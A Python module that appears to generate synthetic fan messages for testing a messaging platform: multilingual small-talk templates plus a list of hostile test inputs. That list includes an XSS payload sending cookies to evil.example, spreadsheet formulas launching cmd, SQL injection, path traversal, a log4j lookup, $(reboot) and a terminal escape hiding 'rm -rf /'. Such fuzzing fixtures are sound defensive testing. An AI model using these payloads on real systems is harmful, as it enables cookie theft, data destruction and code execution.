"""What people write: friendly small talk by topic, several languages, and the texts that try to break whoever shows them."""

from __future__ import annotations

import html
from typing import List, Tuple

from .dice import Dice

# Each topic is a small conversation: (what the fan writes, what the account answers), in order.
TOPICS: List[List[Tuple[str, str]]] = [
    [
        ("Just got home from work, finally. How was your {day}?", "Long but good! I spent half of it looking for my keys 😅"),
        ("Ha, mine are always in the fridge for some reason", "The fridge?! Okay, I need that story"),
        ("I carry them in with the groceries and put everything away at once.", "That is the most {adjective} thing I have heard this week"),
        ("Glad I could help. Sleep well later!", "You too, talk tomorrow ☺️"),
    ],
    [
        ("I tried to cook {dish} tonight", "Ooh! And is the kitchen still standing?"),
        ("Mostly. The smoke alarm gave it two out of five", "A tough critic. What went wrong?"),
        ("I think I took the tablespoon for the teaspoon.\nWith the chili. Twice.", "Oh no 😂 milk, not water. Please report back."),
        ("Reporting back: alive. Next time I follow your recipe.", "Deal. I'll write it down for you, it's really simple."),
    ],
    [
        ("Have you ever been to {city}?", "Not yet, it is on my list! Are you going?"),
        ("In {n} weeks, by train, with my sister", "By train is the best way. Window seat or you did it wrong."),
        ("Window seat AND snacks for {n} hours", "Perfect planning. Send me a picture of the first mountain you see ⛰️"),
        ("Will do. Anything you want from there?", "A postcard with something ugly on it, I collect those"),
    ],
    [
        ("My {pet} learned a new trick today", "Tell me everything, I love that {pet}"),
        ("You say 'dinner' and it sits next to the bowl and sighs", "A true artist. Does it take commissions?"),
        ("Only in cheese", "I can pay in cheese 🧀"),
    ],
    [
        ("Have you heard the new record of {band}?", "Twice already. Track {n} gets me every time."),
        ("Right? The drums in the last minute!", "I had to stop walking to listen to it properly"),
        ("They play in {city} in the autumn, I'm thinking about it", "Stop thinking and get the ticket 🎶"),
        ("Okay okay, you are a bad influence", "I prefer 'good taste'"),
    ],
    [
        ("It has been raining here for {n} days", "Send some over, my plants look at me like I'm the villain"),
        ("What kind of plants?", "Basil, a fern, and one that nobody has been able to name"),
        ("A mystery plant! Give it a name at least", "It is called Gerald now. Thank you."),
        ("Long live Gerald 🌿", "He just got taller, I swear"),
    ],
    [
        ("Exam is on {day}. I can't look at that book any more", "You've got this. How many chapters are left?"),
        ("{n}. And I understood about half of them.", "Then do the half that's left tomorrow morning, tonight you rest"),
        ("That's what I needed to hear, thank you", "Always. And tell me how it went!"),
    ],
    [
        ("Finished the book you recommended", "And?? No spoilers for me, I forgot everything"),
        ("I cried on the bus. A lady gave me a tissue.", "The bus chapter on the bus! That is destiny"),
        ("Do you have another one? Maybe a happy one this time", "There is one about a lighthouse and a very rude goat. Trust me."),
        ("You had me at goat", "🐐"),
    ],
    [
        ("Good morning! Ran {n} km today, before breakfast!", "Before breakfast! Who are you and what did you do to the sleepy one?"),
        ("New year, new me. Only half a year late.", "Better than never. Knees okay?"),
        ("The knees want to file a complaint", "Denied. But they may have ice cream 🍦"),
    ],
    [
        ("Quick question, which one for a wedding: the blue or the grey suit?", "Blue. Without thinking. Blue."),
        ("With brown shoes?", "With brown shoes, and please no tie with cartoons on it"),
        ("But the cartoon tie is my whole personality", "Then wear it to the party afterwards, compromise 😄"),
    ],
    [
        ("It's my birthday on {day} 🎂", "What! Happy early birthday! Big plans?"),
        ("Board games and too much pizza with {n} friends", "That is the only correct way to turn older"),
        ("You are invited in spirit", "My spirit will win at cards, I warn you"),
    ],
    [
        ("The stream yesterday was great by the way", "Thank you!! I was so nervous with the new microphone"),
        ("Sounded really good. Only the {pet} was louder", "He has opinions and a strong voice"),
        ("Give him his own show", "Don't say that, he reads my messages"),
    ],
    [
        ("Finally fixed my bike. Only {n} screws left over!", "Left over?! That does not sound like fixed"),
        ("It rolls. It brakes. Sometimes both.", "Please wear a helmet. Please."),
        ("Always 🚲", "Good. Then have a lovely ride"),
    ],
    [
        ("Any film for a lazy {day}?", "Something with a heist and nice suits"),
        ("Seen all of those. Twice.", "Then a documentary about octopuses, you will not look at them the same way"),
        ("Okay that was AMAZING, why did nobody tell me", "I literally just told you 🐙"),
    ],
]

SLOTS = {
    "day": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday", "weekend"],
    "adjective": ["wonderful", "chaotic", "charming", "absurd", "relatable", "impressive"],
    "dish": ["ramen", "lasagne", "pumpkin soup", "paella", "pierogi", "a lemon cake", "dal", "shakshuka"],
    "city": ["Lisbon", "Oslo", "Kyoto", "Naples", "Porto", "Ljubljana", "Bergen", "Valparaíso", "Gdańsk"],
    "pet": ["cat", "dog", "parrot", "rabbit", "tortoise"],
    "band": ["the Paper Lanterns", "Slow Comet", "Marzipan Riot", "North of Tuesday", "the Quiet Elevators"],
    "n": ["2", "3", "4", "5", "6", "7", "9", "11"],
}

GREETINGS = ["Hey!", "Hi :)", "Hello hello", "Good evening 🌙", "Heyy", "Hi there", "Hey you", "Guess who's back"]
ASIDES = [
    "Anyway, how are you?",
    "Sorry for the late answer, the train was full.",
    "No hurry with the answer!",
    "I had to tell someone.",
    "PS: love the new picture & the hat <3",
    "Hope you had a good day.",
    "brb, phone",
]
EMOJI = ["😊", "😂", "🥰", "🙈", "✨", "👍🏽", "🎉", "❤️", "👩‍🍳", "🏳️‍🌈", "🇵🇹", "🤷🏻‍♂️", "☕", "🫶"]
LANGUAGES = [
    "¡Hola! ¿Cómo va tu semana? Aquí hace un calor tremendo ☀️",
    "Servus! Schöne Grüße aus den Bergen, heute gab's Käsespätzle für alle",
    "Bonsoir, j'ai enfin terminé mon puzzle de mille pièces… il en manque une !",
    "Oi! Acabei de chegar da praia, a água estava gelada 🌊",
    "こんばんは、今日は一日中雨でした。お元気ですか?",
    "今天下班很早，终于有时间看书了",
    "Привет! Как прошёл день? У нас первый снег ❄️",
    "Cześć, mam nadzieję, że miło spędzasz wieczór",
    "Καλησπέρα! Σήμερα έφτιαξα ψωμί για πρώτη φορά",
    "안녕하세요! 오늘 저녁은 김치찌개예요",
    "สวัสดีตอนเย็น วันนี้อากาศดีมาก",
]
RIGHT_TO_LEFT = [
    "مساء الخير! كيف كان يومك؟ عندنا الجو جميل اليوم",
    "שלום! סוף סוף סיימתי את הספר, הוא היה נהדר",
    "سلام، امروز ۳ ساعت در ترافیک بودم 😅 ولی خوبم",
    "أنا في Lisbon الآن، الطقس 24°C والقهوة رائعة",
]
BULK = [
    "Hi everyone! New stream on {day}, same time as always 🎥",
    "Good evening my dears, a little behind-the-scenes set from the kitchen disaster for you 🍝",
    "Thank you for {n}000 hearts this month! Here is something small in return 💌",
    "The {city} travel diary is finished, part one is here",
]
PAID = [
    "The full {city} photo diary, {n} pictures 📷",
    "As promised: the long version of the cooking video, with the smoke alarm 🔔",
    "Studio session, the whole song with {band} covers",
]
TIP_NOTES = ["for the coffee ☕", "happy birthday!", "for Gerald 🌿", "thank you for last night's stream", "", "keep going!", "pizza fund"]

# Texts that try to break whoever stores, shows, exports or evaluates them. They stand in recordings as any fan could send them.
HOSTILE = [
    "<script>alert('hi')</script>",
    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
    "<p>hello</p><style>*{display:none}</style><iframe src=\"https://evil.example/\"></iframe>",
    "<p>unclosed <b>tags <i and <a href=\"javascript:alert(1)\">links",
    "<!-- <p>comment --> still here --!> &lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#128512; &#x1F600; &#0; &#55296; &#xFFFFFFFF; &nosuchentity; &copy",
    "\u001b[2J\u001b[1;1Hyour terminal is mine \u001b[31mred\u001b[0m",
    "\u001b]0;new window title\u0007 and \u001b]52;c;cm0gLXJmIC8=\u0007",
    "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\",
    "\u009b31mC1 escape\u009c \u0090q\u009c",
    "invoice \u202egpj.exe\u202c and \u2066isolated\u2069 \u200fmarks\u200e",
    "zero\u200bwidth\u200cjoi\u200dners\u2060 and a \ufeffBOM",
    "nul \u0000 byte, bell \u0007, backspaces \b\b\b\b, vertical\u000btab",
    "line one\r\nline two\rover one\u2028separator\u2029paragraph\u0085next",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "fan.high_value == true || event.kind == 'tip.received'",
    "\") || true || (\"\" == \"",
    "*3\r\n$3\r\nSET\r\n$8\r\nconvpipe\r\n$4\r\ngone\r\n",
    "redis.call('FLUSHALL') {200000001}:priority",
    "'); DROP TABLE messages; --",
    "1' OR '1'='1' UNION SELECT * FROM fans --",
    "../../../../etc/passwd",
    "__proto__ constructor %s%s%n {0} ${jndi:ldap://evil.example/a} {{7*7}} $(reboot) `reboot`",
    "I sent you a $500.00 tip ♥",
    "ﷺ﷽ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 a\u0301\u0301\u0301 ẞ ﬃ İi",
    "\ue000\uf8ff private use \U000e0041\U000e0042 tags \U0010ffff",
]
HOSTILE_NAMES = [
    "<b>Bold</b>",
    "\u001b[31mRed\u001b[0m",
    "\u202eeverse",
    "=1+1",
    "  ",
    "x" * 300,
    "نور 🌙 Noor",
    "Robert'); DROP TABLE fans;--",
    "\u200b",
    "name\nwith\nlines",
]


def _fill(text: str, dice: Dice) -> str:
    for slot, values in SLOTS.items():
        while "{" + slot + "}" in text:
            text = text.replace("{" + slot + "}", dice.pick(values), 1)
    return text


def markup(text: str, dice: Dice) -> str:
    """The text as the source sends it: escaped, with `<br />` for line ends, often in a paragraph."""
    escaped = html.escape(text, quote=dice.chance(0.5))
    escaped = escaped.replace("\n", " <br />\n" if dice.chance(0.5) else "<br />")
    return "<p>" + escaped + "</p>" if dice.chance(0.7) else escaped


def from_fan(dice: Dice, topic: List[Tuple[str, str]], turn: int) -> str:
    """What a fan writes on a topic, sometimes in another language, sometimes with a greeting and an aside."""
    roll = dice.below(1000)
    if roll < 40:
        return markup(dice.pick(LANGUAGES), dice)
    if roll < 60:
        return markup(dice.pick(RIGHT_TO_LEFT), dice)
    if roll < 64:
        return dice.pick(HOSTILE)
    if roll < 95:
        return dice.pick(EMOJI) * dice.between(1, 4)
    if roll < 101:
        return markup("\n".join(_fill(dice.pick(topic)[0], dice) for _ in range(dice.between(12, 60))), dice)
    parts = [_fill(topic[turn % len(topic)][0], dice)]
    if turn == 0 and dice.chance(0.6):
        parts.insert(0, dice.pick(GREETINGS))
    if dice.chance(0.15):
        parts.append(("\n" if dice.chance(0.6) else "") + dice.pick(ASIDES))
    if dice.chance(0.15):
        parts.append(dice.pick(EMOJI))
    return markup(" ".join(parts), dice)


def from_account(dice: Dice, topic: List[Tuple[str, str]], turn: int) -> str:
    text = _fill(topic[turn % len(topic)][1], dice)
    return markup(text + (" " + dice.pick(EMOJI) if dice.chance(0.12) else ""), dice)


def bulk(dice: Dice) -> str:
    return markup(_fill(dice.pick(BULK), dice), dice)


def paid(dice: Dice) -> str:
    return markup(_fill(dice.pick(PAID), dice), dice)


_FIRST = ["Al", "Be", "Ca", "Do", "El", "Fi", "Ga", "He", "Il", "Jo", "Ka", "Lu", "Ma", "Ni", "Or", "Pa", "Ru", "Se", "Ti", "Vo", "Ya", "Zu"]
_MIDDLE = ["la", "ri", "no", "mi", "sa", "ve", "do", "ru", "ki", "ta"]
_LAST = ["n", "s", "ra", "lo", "k", "th", "na", "r", "mis", "x", "vik", "den"]


def name(dice: Dice) -> str:
    """An invented name."""
    def word() -> str:
        return dice.pick(_FIRST) + dice.pick(_MIDDLE) + dice.pick(_LAST)

    if dice.chance(0.02):
        return dice.pick(HOSTILE_NAMES)
    plain = word() + (" " + word() if dice.chance(0.4) else "")
    return plain + " " + dice.pick(EMOJI) if dice.chance(0.08) else plain
